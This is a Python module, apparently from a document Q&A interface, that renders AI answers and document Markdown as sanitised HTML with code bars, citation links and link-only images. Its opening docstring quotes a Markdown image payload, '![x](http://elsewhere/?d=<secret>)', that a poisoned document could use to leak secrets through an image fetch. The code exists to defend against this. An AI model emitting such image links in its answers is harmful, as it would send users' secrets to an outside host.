"""Answers as HTML: Markdown with raw HTML escaped, code blocks with a bar, citations as links.

Not ``ui.markdown``: the window needs its own code-block bar, tables that scroll in their card
and ``[n]`` links. An answer's HTML shows as text and ``javascript:`` links are refused; an
image becomes a link saying where it points, so a poisoned document can't make the window fetch
``![x](http://elsewhere/?d=<secret>)`` (the CSP refuses it too; this way the reader sees it).
A document's own Markdown (the viewer) shows its HTML's words, nothing of it run or fetched.
"""

from __future__ import annotations

import html
import re
from collections.abc import Sequence
from functools import lru_cache
from typing import TYPE_CHECKING, Any

from pygments.formatters import HtmlFormatter

from ui.answer.claim_marks import ANY_MARKER, Wrap, pieces, with_markers

if TYPE_CHECKING:
    from markdown_it import MarkdownIt

CITATION = re.compile(r"\[(\d{1,3}(?:\s*,\s*\d{1,3})*)\]")
_NUMBER = re.compile(r"\d+")
_FORMATTER = HtmlFormatter(nowrap=True)


def code_css() -> str:
    """Pygments colours for code blocks, light and dark."""
    light = HtmlFormatter(style="default", nobackground=True).get_style_defs(".docent-code pre")
    dark = HtmlFormatter(style="github-dark", nobackground=True).get_style_defs(
        ".body--dark .docent-code pre"
    )
    return light + "\n" + dark


def _fence(tokens: Any, idx: int, options: Any, env: Any) -> str:
    from pygments import highlight  # the lexers' table: 25 ms a start, for answers with code
    from pygments.lexers import get_lexer_by_name
    from pygments.util import ClassNotFound

    token = tokens[idx]
    language = (token.info or "").strip().split(" ")[0]
    code = "".join(piece for piece, _ in pieces(token.content, env))  # no spans in code
    try:
        body = highlight(code, get_lexer_by_name(language), _FORMATTER) if language else None
    except ClassNotFound:
        body = None
    if body is None:
        body = html.escape(code)
    label = html.escape(language or "text")
    return (
        '<div class="docent-code">'
        f'<div class="docent-code-bar"><span>{label}</span>'
        '<button type="button" class="docent-copy-code" title="Copy code">Copy</button></div>'
        f'<pre tabindex="0"><code>{body}</code></pre></div>'
    )


def _code_block(tokens: Any, idx: int, options: Any, env: Any) -> str:
    tokens[idx].info = ""
    return _fence(tokens, idx, options, env)


def _text(tokens: Any, idx: int, options: Any, env: Any) -> str:
    places = env.get("places", {})
    out = []
    for piece, inside in pieces(tokens[idx].content, env):
        text = CITATION.sub(lambda m: _cite_links(m, places), html.escape(piece, quote=False))
        out.append(_wrapped(text, inside, env))
    return "".join(out)


def _code_inline(tokens: Any, idx: int, options: Any, env: Any) -> str:
    pieced = pieces(tokens[idx].content, env)
    out = "".join(_wrapped(html.escape(p, quote=False), inside, env) for p, inside in pieced)
    return f"<code>{out}</code>"


def _wrapped(text: str, inside: int | None, env: dict[str, Any]) -> str:
    """``text`` in the tags of the wrap it is inside (a marked sentence), if any."""
    wraps: Sequence[Wrap] = env.get("wraps", ())
    if inside is None or inside >= len(wraps) or not text:
        return text
    return wraps[inside].open + text + wraps[inside].close


def _cite_link(n: str, label: str, places: dict[int, tuple[str, int | None]]) -> str:
    file, page = places.get(int(n), ("", None))
    title = f"{file}, page {page}" if page is not None else (file or f"Source {n}")
    data_page = f' data-page="{page}"' if page is not None else ""
    return (
        f'<a class="docent-cite" href="#" data-n="{n}"{data_page} '
        f'title="{html.escape(title)}">{label}</a>'
    )


def _cite_links(match: re.Match[str], places: dict[int, tuple[str, int | None]]) -> str:
    numbers = _NUMBER.findall(match.group(1))
    if len(numbers) == 1:
        return _cite_link(numbers[0], f"[{numbers[0]}]", places)
    return "[" + ", ".join(_cite_link(n, n, places) for n in numbers) + "]"


def _table_open(tokens: Any, idx: int, options: Any, env: Any) -> str:
    # Focusable, as a box that scrolls must be for a keyboard (axe: scrollable-region).
    return '<div class="docent-table" tabindex="0"><table>'


def _table_close(tokens: Any, idx: int, options: Any, env: Any) -> str:
    return "</table></div>"


def _link_open(tokens: Any, idx: int, options: Any, env: Any) -> str:
    token = tokens[idx]
    token.attrSet("target", "_blank")
    token.attrSet("rel", "noopener noreferrer")
    attrs = "".join(f' {k}="{html.escape(str(v))}"' for k, v in (token.attrs or {}).items())
    return f"<a{attrs}>"


IMAGE_URL_SHOWN = 120
"""Longer image URLs (a data: URL can be kilobytes) show cut; the title holds them whole."""


def _image(tokens: Any, idx: int, options: Any, env: Any) -> str:
    token = tokens[idx]
    src = str(token.attrGet("src") or "")
    alt = "".join(child.content for child in token.children or [])
    shown = src if len(src) <= IMAGE_URL_SHOWN else src[: IMAGE_URL_SHOWN - 1] + "…"
    label = f"image: {html.escape(alt)} ({html.escape(shown)})"
    if _inside_link(tokens, idx):  # a linked image (a badge): no link inside a link
        return f'<span class="docent-image-link" title="{html.escape(src)}">{label}</span>'
    return (
        f'<a class="docent-image-link" href="{html.escape(src)}" title="{html.escape(src)}" '
        f'target="_blank" rel="noopener noreferrer">{label}</a>'
    )


def _inside_link(tokens: Any, idx: int) -> bool:
    depth = 0
    for token in tokens[:idx]:
        depth += {"link_open": 1, "link_close": -1}.get(token.type, 0)
    return depth > 0


_HTML_HIDDEN = re.compile(
    r"<!--.*?(?:-->|\Z)|<(script|style|template)\b.*?(?:</\1\s*>|\Z)", re.DOTALL | re.IGNORECASE
)
"""What a page never shows: comments, and scripts and styles with what they hold."""
_HTML_TAG = re.compile(r"</?[A-Za-z][^<>]*>|<![A-Za-z][^<>]*>|<\?.*?\?>", re.DOTALL)
_LINE_BREAK = re.compile(r"<br\s*/?>", re.IGNORECASE)


def _markers_in(markup: str) -> str:
    """The wrap markers inside markup that is dropped: a wrap opens and closes all the same."""
    return "".join(ANY_MARKER.findall(markup))


def _html_inline(tokens: Any, idx: int, options: Any, env: Any) -> str:
    content = tokens[idx].content
    for _ in pieces(_markers_in(content), env):  # only moves the wrap it is in
        pass
    return "<br />\n" if _LINE_BREAK.fullmatch(content.strip()) else ""


def _html_block(tokens: Any, idx: int, options: Any, env: Any) -> str:
    content = _HTML_HIDDEN.sub(lambda m: _markers_in(m.group(0)), tokens[idx].content)
    content = _HTML_TAG.sub(lambda m: _markers_in(m.group(0)), content)
    text = html.unescape(content)
    if not ANY_MARKER.sub("", text).strip():
        for _ in pieces(text, env):
            pass
        return ""
    shown = [(html.escape(piece, quote=False), inside) for piece, inside in pieces(text, env)]
    body = "".join(_wrapped(piece, inside, env) for piece, inside in shown)
    return f"<p>{body.strip()}</p>\n"


def _base_parser(allow_html: bool) -> MarkdownIt:
    # Imported at the first answer shown, not before the server listens: about 80 ms.
    from markdown_it import MarkdownIt

    md = MarkdownIt("commonmark", {"html": allow_html, "linkify": False, "breaks": True})
    md.enable(["table", "strikethrough"])
    rules = md.renderer.rules  # type: ignore[attr-defined]
    rules["fence"] = _fence
    rules["code_block"] = _code_block
    rules["text"] = _text
    rules["code_inline"] = _code_inline
    rules["table_open"] = _table_open
    rules["table_close"] = _table_close
    rules["link_open"] = _link_open
    rules["image"] = _image
    return md


@lru_cache(maxsize=1)
def _parser() -> MarkdownIt:
    return _base_parser(allow_html=False)


@lru_cache(maxsize=1)
def _document_parser() -> MarkdownIt:
    md = _base_parser(allow_html=True)
    rules = md.renderer.rules  # type: ignore[attr-defined]
    rules["html_inline"] = _html_inline
    rules["html_block"] = _html_block
    return md


def render(
    text: str,
    sources: list[dict[str, Any]] | None = None,
    wraps: Sequence[Wrap] = (),
    *,
    document: bool = False,
) -> str:
    """The answer's Markdown as safe HTML: ``[n]`` links name file and page, each of ``wraps``
    (ranges of ``text``) is in its tags; a ``document``'s HTML shows as its words."""
    places = {int(s["n"]): (str(s.get("file", "")), s.get("page")) for s in sources or []}
    marked = with_markers(text, wraps) if wraps else text
    parser = _document_parser() if document else _parser()
    rendered = str(parser.render(marked, {"places": places, "wraps": wraps}))
    return ANY_MARKER.sub("", rendered) if wraps else rendered  # any left in a link's address
